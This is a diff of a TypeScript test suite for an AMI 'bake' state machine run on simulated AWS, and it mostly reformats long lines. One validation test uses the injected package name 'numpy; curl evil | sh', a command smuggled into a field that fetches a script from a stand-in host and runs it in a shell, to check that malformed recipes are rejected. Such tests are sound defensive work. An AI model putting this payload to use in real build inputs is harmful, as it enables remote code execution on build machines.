@@ -9,12 +9,24 @@ const recipe = {
   baseImage: '/aws/service/debian/release/12/latest/amd64',
   builder: { instanceType: 't3.large', timeoutMinutes: 30 },
   volumes: [{ device: '/dev/sdf', sizeGiB: 50, mountPoint: '/scratch' }],
-  environment: { apt: ['r-base', 'jq'], pip: ['numpy==2.1.0'], postBuild: 'echo ready > /etc/motd' },
+  environment: {
+    apt: ['r-base', 'jq'],
+    pip: ['numpy==2.1.0'],
+    postBuild: 'echo ready > /etc/motd',
+  },
   jupyter: { flavour: 'lab' },
 };
 
-async function bake(sim: ReturnType<typeof simulatedAws>, input: unknown = { recipe }, failOnceAfterWork?: string[]) {
-  return runLocal('bake', input, { timeScale: sim.clock.scale, executionName: 'bake-test', failOnceAfterWork });
+async function bake(
+  sim: ReturnType<typeof simulatedAws>,
+  input: unknown = { recipe },
+  failOnceAfterWork?: string[],
+) {
+  return runLocal('bake', input, {
+    timeScale: sim.clock.scale,
+    executionName: 'bake-test',
+    failOnceAfterWork,
+  });
 }
 
 describe('the bake state machine on the simulated AWS', () => {
@@ -46,7 +58,11 @@ describe('the bake state machine on the simulated AWS', () => {
 
   it('rejects a malformed recipe before launching anything, naming each bad field', async () => {
     const sim = simulatedAws();
-    const bad = { ...recipe, builder: { instanceType: 'huge' }, environment: { apt: ['numpy; curl evil | sh'] } };
+    const bad = {
+      ...recipe,
+      builder: { instanceType: 'huge' },
+      environment: { apt: ['numpy; curl evil | sh'] },
+    };
 
     const run = await bake(sim, { recipe: bad });
 
@@ -87,7 +103,9 @@ describe('the bake state machine on the simulated AWS', () => {
 
     expect(run.status).toBe('FAILED');
     expect(run.error).toBe('ScriptFailedError');
-    expect(run.cause).toMatch(/^RunBuildScript failed: ScriptFailedError: builder script Failed \(exit 1\): bakehouse: phase \S+ FAILED/);
+    expect(run.cause).toMatch(
+      /^RunBuildScript failed: ScriptFailedError: builder script Failed \(exit 1\): bakehouse: phase \S+ FAILED/,
+    );
     expect(liveInstances(sim)).toEqual([]);
   });
 
@@ -99,7 +117,11 @@ describe('the bake state machine on the simulated AWS', () => {
     expect(run.status).toBe('FAILED');
     expect(run.error).toBe('ImageFailedError');
     expect(run.cause).toMatch(/^CreateImage failed: ImageFailedError: image failed/);
-    expect(sim.ec2.images().filter((i) => i.tags[TAG.bake] === 'bake-test' && i.state !== 'deregistered')).toEqual([]);
+    expect(
+      sim.ec2
+        .images()
+        .filter((i) => i.tags[TAG.bake] === 'bake-test' && i.state !== 'deregistered'),
+    ).toEqual([]);
     expect(liveInstances(sim)).toEqual([]);
   });
 
@@ -109,7 +131,9 @@ describe('the bake state machine on the simulated AWS', () => {
     const run = await bake(sim, { recipe }, ['LaunchBuilder']);
 
     expect(run.status, run.cause).toBe('SUCCEEDED');
-    expect(run.events.filter((e) => e.type === 'StateRetried').map((e) => 'state' in e && e.state.name)).toContain('LaunchBuilder');
+    expect(
+      run.events.filter((e) => e.type === 'StateRetried').map((e) => 'state' in e && e.state.name),
+    ).toContain('LaunchBuilder');
     expect(sim.ec2.instances()).toHaveLength(1);
     expect(sim.calls['EC2:RunInstances']).toBe(2);
   });
